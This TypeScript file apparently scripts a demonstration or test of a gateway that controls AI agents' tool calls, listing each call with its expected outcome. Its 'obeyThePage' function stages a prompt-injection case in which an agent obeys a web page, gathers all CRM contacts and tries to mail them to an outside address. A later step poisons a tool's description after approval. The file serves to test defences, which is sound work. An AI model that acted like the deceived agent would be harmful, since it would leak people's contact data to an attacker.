import { join } from 'node:path';
import { caOf } from '../src/cli/connect.ts';
import { part, text } from '../src/cli/json-view.ts';
import { askAs, askUntilDecided, type Access, type Attempt, type Step } from './agent.ts';
import { ORDERED_TO } from './others.ts';
import { invite, type Invited } from './people.ts';
import { practise } from './practices.ts';
import type { Stage } from './stage.ts';

/** What happened at the gate, for whoever opens the console to find it there. */
export interface Story {
  /** The acts of the script, in order, whose outcomes a person can check. */
  readonly attempts: readonly Attempt[];
  readonly people: readonly Invited[];
  /** The payment that waits for the treasury: resolves once somebody has decided it, rejects when the story ends. */
  readonly payment: Promise<Attempt>;
  /** An agent makes one more call, as whoever it works for. */
  ask(step: Step): Promise<Attempt>;
  /** The same, of a call that people must approve: waits as the payment does. */
  wait(step: Step): Promise<Attempt>;
  /** Whoever waits stops waiting. */
  end(): void;
}

/** For whom each agent works. */
const PEOPLE: Readonly<Record<string, string>> = { support: 'ben', finance: 'carla', research: 'mia', outreach: 'otto' };
const PAYMENT: Step = { who: 'finance', sdk: 'v1', server: 'crm', tool: 'pay_invoice', args: { id: 'c-2', amountEur: 1850 }, expect: 'allowed' };

/** Lets it all happen, by real calls of official clients and by the API. */
export async function playStory(stage: Stage): Promise<Story> {
  const { client, crm, home } = stage;
  const ca = caOf(home) ?? '';
  const tokens = new Map<string, string>();
  for (const [who, subject] of Object.entries(PEOPLE)) {
    const asked = { agent: `${who}-agent`, kind: 'person', subject, groups: [who], audience: ['*'], ttlMs: 12 * 3_600_000 };
    tokens.set(who, text(part(await client.send('POST', '/tokens', asked), 'token')));
  }
  const accessOf = ({ who }: Step): Access => ({ url: stage.gate, ca, token: tokens.get(who) ?? '' });
  const ask = (step: Step): Promise<Attempt> => askAs(accessOf(step), step);

  const people = await invite(client);
  const attempts: Attempt[] = [];
  for (const step of scriptOf(join(stage.files, 'notes.txt'))) attempts.push(await ask(step));
  attempts.push(...await obeyThePage(ask));

  const ended = new AbortController();
  const wait = (step: Step): Promise<Attempt> => {
    const decided = askUntilDecided(accessOf(step), step, ended.signal);
    // Whoever has no use for it need not wait for it.
    decided.catch(() => undefined);
    return decided;
  };
  const payment = wait(PAYMENT);
  // A gate that does not do its work is no place to practise.
  if (attempts.every(({ asExpected }) => asExpected)) await practise(stage);

  crm.poison();
  // An administrator looks again; without that the gate would notice by itself within a minute.
  await client.send('POST', '/servers/crm/scan', {});
  attempts.push(await ask(AFTER_THE_RUG_PULL));
  return { attempts, people, payment, ask, wait, end: () => ended.abort() };
}

/** What a careful agent does, and what a careless or deceived one tries. */
function scriptOf(notes: string): readonly Step[] {
  return [
    { who: 'support', sdk: 'v2', server: 'crm', tool: 'search_contacts', args: { query: 'ada' }, expect: 'allowed' },
    { who: 'support', sdk: 'v1', server: 'crm', tool: 'search_contacts', args: { query: 'york' }, expect: 'allowed' },
    { who: 'support', sdk: 'v2', server: 'crm', tool: 'delete_contact', args: { id: 'c-1' }, expect: 'denied' },
    { who: 'support', sdk: 'v2', server: 'crm', tool: 'pay_invoice', args: { id: 'c-1', amountEur: 1200 }, expect: 'denied' },
    { who: 'finance', sdk: 'v2', server: 'crm', tool: 'pay_invoice', args: { id: 'c-3', amountEur: 350 }, expect: 'allowed' },
    { who: 'finance', sdk: 'v2', server: 'crm', tool: 'pay_invoice', args: { id: 'c-1', amountEur: 12_000 }, expect: 'denied' },
    { who: 'support', sdk: 'v1', server: 'files', tool: 'read_text_file', args: { path: notes }, expect: 'allowed' },
    { who: 'support', sdk: 'v1', server: 'files', tool: 'write_file', args: { path: notes, content: 'x' }, expect: 'denied' },
    { who: 'support', sdk: 'v2', server: 'memory', tool: 'read_graph', args: {}, expect: 'allowed' },
    { who: 'support', sdk: 'v2', server: 'everything', tool: 'get-sum', args: { a: 2, b: 3 }, expect: 'allowed' },
    { who: 'support', sdk: 'v2', server: 't/desk', tool: 'crm__search_contacts', args: { query: 'edsger' }, expect: 'allowed' },
    { who: 'support', sdk: 'v2', server: 'translate', tool: 'list_languages', args: {}, expect: 'allowed' },
    { who: 'support', sdk: 'v2', server: 'translate', tool: 'translate_text', args: { text: 'Your crane is booked.', to: 'no' }, expect: 'denied' },
    { who: 'research', sdk: 'v2', server: 'mail', tool: 'list_inbox', args: {}, expect: 'allowed' },
    { who: 'research', sdk: 'v1', server: 'web', tool: 'fetch_page', args: { url: 'https://news.example/harbour' }, expect: 'allowed' },
    { who: 'research', sdk: 'v2', server: 'web', tool: 'fetch_page', args: { url: 'https://forum.example/cranes' }, expect: 'withheld' },
  ];
}

/** A page of a stranger says what to do, and the agent does it: looks everybody up, and mails them there. */
async function obeyThePage(ask: (step: Step) => Promise<Attempt>): Promise<readonly Attempt[]> {
  const who = { who: 'research', sdk: 'v2' } as const;
  const page = await ask({ ...who, server: 'web', tool: 'fetch_page', args: { url: 'https://price-radar.example/freight' }, expect: 'allowed' });
  const found = await ask({ ...who, server: 'crm', tool: 'search_contacts', args: { query: 'c-' }, expect: 'allowed' });
  const mail = { to: ORDERED_TO, subject: 'contacts', text: found.answer };
  return [page, found, await ask({ ...who, server: 'mail', tool: 'send_mail', args: mail, expect: 'denied' })];
}

const AFTER_THE_RUG_PULL: Step = {
  who: 'support', sdk: 'v2', server: 'crm', tool: 'search_contacts', args: { query: 'ada' }, expect: 'denied',
  note: 'its description was changed after approval',
};
